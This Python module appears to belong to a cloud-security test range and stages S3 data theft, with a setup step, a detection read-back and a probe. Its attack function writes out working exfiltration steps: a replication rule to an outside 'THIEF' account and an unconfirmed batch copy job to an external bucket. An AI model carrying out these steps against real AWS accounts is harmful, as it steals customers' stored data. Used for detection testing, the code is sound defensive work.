"""A user with rights on a bucket sends its objects away: to another account, by a batch job, and by hand."""

from __future__ import annotations

import json
from typing import Any

from quell_range.attacks.stage import Made, Stage, allow, tried

#: Nobody's account that the range, or Quell, knows.
THIEF = "999900001111"


def prepare(stage: Stage) -> Made:
    """A bucket that is backed up to another of the account's, as many are."""
    name, backup, user = (f"{what}-{stage.mark}" for what in ("invoices", "invoices-backup", "pat"))
    s3, iam = stage.client("s3"), stage.client("iam")
    for bucket in (name, backup):
        stage.bucket(bucket)
        s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    s3.put_object(Bucket=name, Key="2026/11.csv", Body=b"customer,amount\n")
    trust = {"Effect": "Allow", "Principal": {"Service": ["s3.amazonaws.com", "batchoperations.s3.amazonaws.com"]}, "Action": "sts:AssumeRole"}
    role = iam.create_role(RoleName=f"copy-{stage.mark}", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [trust]}))
    reads = {"Sid": "App", "Effect": "Allow", "Principal": {"AWS": role["Role"]["Arn"]}, "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{name}/*"}
    s3.put_bucket_policy(Bucket=name, Policy=json.dumps({"Version": "2012-10-17", "Statement": [reads]}))
    made: Made = {"resource": name, "backup": backup, "role": role["Role"]["Arn"], "keys": stage.user(user, allow("s3:*", "iam:PassRole"))}
    made["principal"] = iam.get_user(UserName=user)["User"]["UserId"]
    rules = [_rule("backup", 1, backup)]
    s3.put_bucket_replication(Bucket=name, ReplicationConfiguration={"Role": made["role"], "Rules": rules})
    return made


def _rule(name: str, priority: int, bucket: str, **more: Any) -> dict[str, Any]:
    return {
        "ID": name,
        "Priority": priority,
        "Status": "Enabled",
        "Filter": {"Prefix": ""},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": f"arn:aws:s3:::{bucket}", **more},
    }


def attack(stage: Stage, made: Made) -> None:
    """A second rule beside the first, for what will come; a job for what is there; and one object by hand."""
    name, keys = made["resource"], made["keys"]
    out = _rule("sync", 2, f"out-{stage.mark}", Account=THIEF, AccessControlTranslation={"Owner": "Destination"})
    both = {"Role": made["role"], "Rules": [_rule("backup", 1, made["backup"]), out]}
    stage.aws("s3api", "put-bucket-replication", "--bucket", name, "--replication-configuration", json.dumps(both), keys=keys)
    source = {"SourceBucket": f"arn:aws:s3:::{name}", "EnableManifestOutput": False, "ExpectedBucketOwner": stage.account["id"]}
    made["job"] = stage.control(keys).create_job(
        AccountId=stage.account["id"], ConfirmationRequired=False, Priority=1, RoleArn=made["role"], ClientRequestToken=stage.mark,
        Operation={"S3PutObjectCopy": {"TargetResource": f"arn:aws:s3:::out-{stage.mark}"}}, Report={"Enabled": False},
        ManifestGenerator={"S3JobManifestGenerator": source},
    )["JobId"]  # fmt: skip
    stage.client("s3", keys).get_object(Bucket=name, Key="2026/11.csv")["Body"].read()


def read(stage: Stage, made: Made) -> Any:
    s3, name = stage.client("s3"), made["resource"]
    calls = (s3.get_bucket_replication, s3.get_bucket_policy, s3.get_bucket_acl, s3.get_public_access_block, s3.get_bucket_versioning)
    job = stage.control().describe_job(AccountId=stage.account["id"], JobId=made["job"])["Job"]["Status"]
    return {"job": job, **{call.__name__: _answer(call, name) for call in calls}}


def _answer(call: Any, bucket: str) -> Any:
    try:
        return {name: value for name, value in call(Bucket=bucket).items() if name != "ResponseMetadata"}
    except Exception as error:  # noqa: BLE001 - what is not there is a part of what is read
        return str(error)


def probe(stage: Stage, made: Made) -> str:
    """What the user is told who took an object."""
    return tried(stage.client("s3", made["keys"]).get_object, Bucket=made["resource"], Key="2026/11.csv")
